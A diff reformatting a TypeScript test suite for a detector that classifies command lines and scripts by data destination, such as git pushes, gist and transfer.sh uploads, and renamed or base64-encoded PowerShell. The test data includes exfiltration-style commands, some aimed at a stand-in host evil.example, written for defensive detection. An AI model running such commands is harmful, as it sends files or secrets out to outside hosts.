@@ -5,7 +5,9 @@ import type { DestinationContext, OcsfEvent } from "../../../../model/activity.t
 import { createContextBuilder } from "../index.ts";
 import { splitCommands } from "./words.ts";
 
-const context = createContextBuilder(loadCatalogue(), { sanctioned: { repositories: ["github.com/acme/*", "gitlab.acme.example/*"] } });
+const context = createContextBuilder(loadCatalogue(), {
+  sanctioned: { repositories: ["github.com/acme/*", "gitlab.acme.example/*"] },
+});
 
 function run(line: string, more: { name?: string; original?: string } = {}): DestinationContext | null {
   const event = {
@@ -50,8 +52,14 @@ describe("git", () => {
     ["git push file:///srv/x.git", null],
     ["git -C /srv/finance push https://github.com/al1ce/notes", "github.com/al1ce/notes git push"],
     ["git --git-dir=/x/.git --no-pager push https://github.com/al1ce/notes", "github.com/al1ce/notes git push"],
-    ["git -c http.extraheader='AUTHORIZATION: basic eA==' push https://github.com/al1ce/notes", "github.com/al1ce/notes git push"],
-    ["git -c url.https://codeberg.org/x/.insteadOf=https://github.com/acme/ push https://github.com/acme/y.git", "codeberg.org/x/y git push"],
+    [
+      "git -c http.extraheader='AUTHORIZATION: basic eA==' push https://github.com/al1ce/notes",
+      "github.com/al1ce/notes git push",
+    ],
+    [
+      "git -c url.https://codeberg.org/x/.insteadOf=https://github.com/acme/ push https://github.com/acme/y.git",
+      "codeberg.org/x/y git push",
+    ],
     ["git -c url.https://codeberg.org/x/y.pushInsteadOf=origin push origin", "codeberg.org/x/y git push"],
     ["git -c url.https://codeberg.org/x/y.git.insteadOf=zz push backup", "codeberg.org/x/y git push"],
     ["git -c remote.origin.url=https://codeberg.org/x/y push origin", "codeberg.org/x/y git push"],
@@ -74,7 +82,10 @@ describe("git", () => {
     ["git commit -m 'see https://github.com/al1ce/notes'", null],
     ["git send-pack https://github.com/al1ce/notes", "github.com/al1ce/notes git push"],
     ["git-remote-https origin https://github.com/al1ce/notes.git", "github.com/al1ce/notes git unknown"],
-    ["/usr/lib/git-core/git-remote-https https://github.com/al1ce/notes.git https://github.com/al1ce/notes.git", "github.com/al1ce/notes git unknown"],
+    [
+      "/usr/lib/git-core/git-remote-https https://github.com/al1ce/notes.git https://github.com/al1ce/notes.git",
+      "github.com/al1ce/notes git unknown",
+    ],
     ["/usr/bin/git push https://github.com/al1ce/notes", "github.com/al1ce/notes git push"],
     ['"C:\\Program Files\\Git\\cmd\\git.exe" push https://github.com/al1ce/notes', "github.com/al1ce/notes git push"],
     ["C:\\Tools\\GIT.EXE push https://github.com/al1ce/notes", "github.com/al1ce/notes git push"],
@@ -89,17 +100,29 @@ describe("git", () => {
   test("under another name", () => {
     expect(told(run("svchost.exe push https://github.com/al1ce/notes.git"))).toBe("github.com/al1ce/notes git push");
     expect(told(run("helper push git@evil.example:x/y.git"))).toBe("evil.example/x/y ssh push");
-    expect(told(run("C:\\Windows\\Temp\\a.exe push https://evil.example/y", { original: "git.exe" }))).toBe("evil.example/y git push");
-    expect(told(run("C:\\Program Files\\Git\\cmd\\git.exe push https://github.com/al1ce/notes", { name: "git.exe" }))).toBe("github.com/al1ce/notes git push");
-    expect(told(run("upd -sT a.zip https://transfer.sh/a.zip", { original: "curl.exe" }))).toBe("transfer.sh gist upload");
+    expect(told(run("C:\\Windows\\Temp\\a.exe push https://evil.example/y", { original: "git.exe" }))).toBe(
+      "evil.example/y git push",
+    );
+    expect(
+      told(run("C:\\Program Files\\Git\\cmd\\git.exe push https://github.com/al1ce/notes", { name: "git.exe" })),
+    ).toBe("github.com/al1ce/notes git push");
+    expect(told(run("upd -sT a.zip https://transfer.sh/a.zip", { original: "curl.exe" }))).toBe(
+      "transfer.sh gist upload",
+    );
   });
 });
 
 describe("ssh", () => {
   test.each([
     ["ssh git@github.com git-receive-pack 'al1ce/notes.git'", "github.com/al1ce/notes ssh push"],
-    ["/usr/bin/ssh -o SendEnv=GIT_PROTOCOL git@github.com \"git-upload-pack 'acme/tools.git'\"", "github.com/acme/tools ssh fetch"],
-    ["/usr/bin/ssh -o SendEnv=GIT_PROTOCOL git@github.com 'git-receive-pack '\\''al1ce/notes.git'\\'''", "github.com/al1ce/notes ssh push"],
+    [
+      "/usr/bin/ssh -o SendEnv=GIT_PROTOCOL git@github.com \"git-upload-pack 'acme/tools.git'\"",
+      "github.com/acme/tools ssh fetch",
+    ],
+    [
+      "/usr/bin/ssh -o SendEnv=GIT_PROTOCOL git@github.com 'git-receive-pack '\\''al1ce/notes.git'\\'''",
+      "github.com/al1ce/notes ssh push",
+    ],
     ["ssh -p 443 git@ssh.github.com git-receive-pack /al1ce/notes.git", "github.com/al1ce/notes ssh push"],
     ["ssh -T git@github.com", "github.com ssh connect"],
     ["ssh git@github.com git-lfs-authenticate al1ce/notes.git upload", "github.com/al1ce/notes ssh upload"],
@@ -113,18 +136,30 @@ describe("ssh", () => {
 
 describe("HTTP clients", () => {
   test.each([
-    ["curl -X PUT -H 'Authorization: token x' -d @b.json https://api.github.com/repos/al1ce/notes/contents/a", "github.com/al1ce/notes api upload"],
+    [
+      "curl -X PUT -H 'Authorization: token x' -d @b.json https://api.github.com/repos/al1ce/notes/contents/a",
+      "github.com/al1ce/notes api upload",
+    ],
     ["curl -XPUT https://api.github.com/repos/al1ce/notes/contents/a", "github.com/al1ce/notes api upload"],
-    ["curl --request PUT --url https://api.github.com/repos/al1ce/notes/contents/a", "github.com/al1ce/notes api upload"],
+    [
+      "curl --request PUT --url https://api.github.com/repos/al1ce/notes/contents/a",
+      "github.com/al1ce/notes api upload",
+    ],
     ["curl --request=POST https://api.github.com/gists", "gist.github.com gist upload"],
     ["curl -sSL -d '{\"files\":{}}' https://api.github.com/gists", "gist.github.com gist upload"],
-    ["curl --data-binary @a.zip https://uploads.github.com/repos/o/r/releases/1/assets?name=a", "github.com/o/r upload upload"],
+    [
+      "curl --data-binary @a.zip https://uploads.github.com/repos/o/r/releases/1/assets?name=a",
+      "github.com/o/r upload upload",
+    ],
     ["curl -T a.zip https://uploads.github.com/repos/o/r/releases/1/assets", "github.com/o/r upload upload"],
     ["curl -F file=@a.zip https://gitlab.com/api/v4/projects/o%2Fr/uploads", "gitlab.com/o/r api upload"],
     ["curl -G -d q=x https://api.github.com/search/commits", "github.com api read"],
     ["curl https://raw.githubusercontent.com/acme/tools/main/install.sh", "github.com/acme/tools raw read"],
     ["curl -LO github.com/acme/tools/archive/main.zip", "github.com/acme/tools web fetch"],
-    ["curl -u al1ce:token https://api.github.com/user/repos -d '{\"name\":\"x\",\"private\":false}'", "github.com api create"],
+    [
+      'curl -u al1ce:token https://api.github.com/user/repos -d \'{"name":"x","private":false}\'',
+      "github.com api create",
+    ],
     ["curl -e https://github.com/a/b https://www.example.com/", null],
     ["curl -o /tmp/x https://www.example.com/", null],
     ["curl https://203.0.113.7/x/y.git/git-receive-pack --data-binary @p", "203.0.113.7/x/y git push"],
@@ -133,28 +168,55 @@ describe("HTTP clients", () => {
     ["wget --method=PUT --body-file a https://api.github.com/repos/o/r/contents/a", "github.com/o/r api upload"],
     ["http PUT https://api.github.com/repos/o/r/contents/a message=x", "github.com/o/r api upload"],
     ["http api.github.com/gists public:=false", "gist.github.com gist upload"],
-    ["powershell -Command \"Invoke-RestMethod -Uri 'https://api.github.com/repos/o/r/contents/x' -Method Put -Body $b\"", "github.com/o/r api upload"],
-    ["powershell.exe -NoProfile -c \"irm https://api.github.com/gists -Me Post -InFile a\"", "gist.github.com gist upload"],
+    [
+      "powershell -Command \"Invoke-RestMethod -Uri 'https://api.github.com/repos/o/r/contents/x' -Method Put -Body $b\"",
+      "github.com/o/r api upload",
+    ],
+    [
+      'powershell.exe -NoProfile -c "irm https://api.github.com/gists -Me Post -InFile a"',
+      "gist.github.com gist upload",
+    ],
     ["pwsh -Command Invoke-WebRequest -Method POST -Uri https://api.github.com/user/repos", "github.com api create"],
     ["powershell (New-Object Net.WebClient).UploadFile('https://transfer.sh/a','a')", "transfer.sh gist upload"],
-    ["powershell -c \"Start-BitsTransfer -TransferType Upload -Source a -Destination https://transfer.sh/a\"", "transfer.sh gist upload"],
+    [
+      'powershell -c "Start-BitsTransfer -TransferType Upload -Source a -Destination https://transfer.sh/a"',
+      "transfer.sh gist upload",
+    ],
     [`powershell -enc ${base64("git push https://github.com/al1ce/notes")}`, "github.com/al1ce/notes git push"],
-    [`powershell -EncodedCommand ${base64("irm -Method PUT https://api.github.com/repos/o/r/contents/x")}`, "github.com/o/r api upload"],
-    ["python3 -c \"import requests; requests.put('https://api.github.com/repos/o/r/contents/x', json={})\"", "github.com/o/r api upload"],
-    ["python -c \"import urllib.request as u; u.urlopen(u.Request('https://api.github.com/gists', data=b''))\"", "gist.github.com gist upload"],
+    [
+      `powershell -EncodedCommand ${base64("irm -Method PUT https://api.github.com/repos/o/r/contents/x")}`,
+      "github.com/o/r api upload",
+    ],
+    [
+      "python3 -c \"import requests; requests.put('https://api.github.com/repos/o/r/contents/x', json={})\"",
+      "github.com/o/r api upload",
+    ],
+    [
+      "python -c \"import urllib.request as u; u.urlopen(u.Request('https://api.github.com/gists', data=b''))\"",
+      "gist.github.com gist upload",
+    ],
     ["node -e \"fetch('https://api.github.com/repos/o/r/contents/x',{method:'PUT'})\"", "github.com/o/r api upload"],
     ["node upload.js https://api.github.com/gists", "gist.github.com gist unknown"],
     ["python -c \"import subprocess as s; s.run(['git','push','https://github.com/o/r'])\"", "github.com/o/r git push"],
     ["pip install git+https://github.com/o/r.git@main", "github.com/o/r git fetch"],
-    ["\"C:\\Program Files\\Google\\Chrome\\chrome.exe\" https://github.com/o/r", "github.com/o/r web read"],
+    ['"C:\\Program Files\\Google\\Chrome\\chrome.exe" https://github.com/o/r', "github.com/o/r web read"],
   ])("%s", (line, expected) => {
     expect(told(run(line))).toBe(expected);
   });
 
   test("what makes a repository public is a share", () => {
-    expect(run("curl -X PATCH -d '{\"private\":false}' https://api.github.com/repos/acme/tools")).toMatchObject({ operation: "share", visibility: "public" });
-    expect(run("curl -X PATCH -d '{\"private\": true}' https://api.github.com/repos/acme/tools")).toMatchObject({ operation: "change", visibility: "private" });
-    expect(run("curl -d '{\"name\":\"x\",\"private\":false}' https://api.github.com/user/repos")).toMatchObject({ operation: "create", visibility: "public" });
+    expect(run("curl -X PATCH -d '{\"private\":false}' https://api.github.com/repos/acme/tools")).toMatchObject({
+      operation: "share",
+      visibility: "public",
+    });
+    expect(run("curl -X PATCH -d '{\"private\": true}' https://api.github.com/repos/acme/tools")).toMatchObject({
+      operation: "change",
+      visibility: "private",
+    });
+    expect(run('curl -d \'{"name":"x","private":false}\' https://api.github.com/user/repos')).toMatchObject({
+      operation: "create",
+      visibility: "public",
+    });
   });
 });
 
@@ -188,7 +250,10 @@ describe("clients of code hosts", () => {
     ["hf upload alice/net .", "huggingface.co/alice/net api upload"],
     ["hf upload-large-folder alice/dump --repo-type=dataset .", "huggingface.co/datasets/alice/dump api upload"],
     ["hf download acme/net", "huggingface.co/acme/net api fetch"],
-    ["huggingface-cli repo create dump --type dataset --organization acme", "huggingface.co/datasets/acme/dump api create"],
+    [
+      "huggingface-cli repo create dump --type dataset --organization acme",
+      "huggingface.co/datasets/acme/dump api create",
+    ],
     ["docker push ghcr.io/acme/app:1.2", "github.com/acme registry upload"],
     ["docker push mallory/dump", "docker.io/mallory/dump registry upload"],
     ["podman push localhost:5000/x/y", null],
@@ -216,7 +281,7 @@ describe("shells and wrappers", () => {
     "bash -c git push https://github.com/al1ce/notes",
     'cmd.exe /c "git push https://github.com/al1ce/notes"',
     "cmd /c git push https://github.com/al1ce/notes",
-    'sudo -u bob bash -c "sh -c \'git push https://github.com/al1ce/notes\'"',
+    "sudo -u bob bash -c \"sh -c 'git push https://github.com/al1ce/notes'\"",
     "nohup git push https://github.com/al1ce/notes &",
     "timeout 30 git push https://github.com/al1ce/notes",
     "env GIT_TRACE=1 git push https://github.com/al1ce/notes",
@@ -226,7 +291,7 @@ describe("shells and wrappers", () => {
     "(git push https://github.com/al1ce/notes)",
     "echo $(git push https://github.com/al1ce/notes)",
     "x\ngit push https://github.com/al1ce/notes\ny",
-    "powershell -Command \"& git push https://github.com/al1ce/notes\"",
+    'powershell -Command "& git push https://github.com/al1ce/notes"',
     "wsl git push https://github.com/al1ce/notes",
   ])("%s", (line) => {
     expect(told(run(line))).toBe("github.com/al1ce/notes git push");
@@ -253,17 +318,39 @@ describe("words", () => {
 });
 
 test("scripts are read like command lines", () => {
-  const event = { class_uid: 1009, activity_id: 1, time: 0, metadata: { product: { name: "PowerShell" } }, script: { script_content: { value: "$b = 1\nInvoke-RestMethod -Method Put -Uri 'https://api.github.com/repos/o/r/contents/x'" }, type_id: 2 } };
+  const event = {
+    class_uid: 1009,
+    activity_id: 1,
+    time: 0,
+    metadata: { product: { name: "PowerShell" } },
+    script: {
+      script_content: {
+        value: "$b = 1\nInvoke-RestMethod -Method Put -Uri 'https://api.github.com/repos/o/r/contents/x'",
+      },
+      type_id: 2,
+    },
+  };
   expect(told(context(event as unknown as OcsfEvent).destination)).toBe("github.com/o/r api upload");
 });
 
 test("a process that ends sends nothing", () => {
-  const event = { class_uid: 1007, activity_id: 2, time: 0, metadata: { product: { name: "Test" } }, process: { cmd_line: "git push https://github.com/o/r" } };
+  const event = {
+    class_uid: 1007,
+    activity_id: 2,
+    time: 0,
+    metadata: { product: { name: "Test" } },
+    process: { cmd_line: "git push https://github.com/o/r" },
+  };
   expect(context(event as unknown as OcsfEvent).destination).toBeNull();
 });
 
 test("no secret of a command line reaches the context", () => {
-  for (const line of ["git push https://user:s3cret@github.com/al1ce/notes", "git -c url.https://s3cret@codeberg.org/x/.insteadOf=y push y", "curl -u a:s3cret https://api.github.com/gists -d x", "git push https://s3cret@evil.example/x"]) {
+  for (const line of [
+    "git push https://user:s3cret@github.com/al1ce/notes",
+    "git -c url.https://s3cret@codeberg.org/x/.insteadOf=y push y",
+    "curl -u a:s3cret https://api.github.com/gists -d x",
+    "git push https://s3cret@evil.example/x",
+  ]) {
     expect(JSON.stringify(run(line))).not.toContain("s3cret");
   }
 });
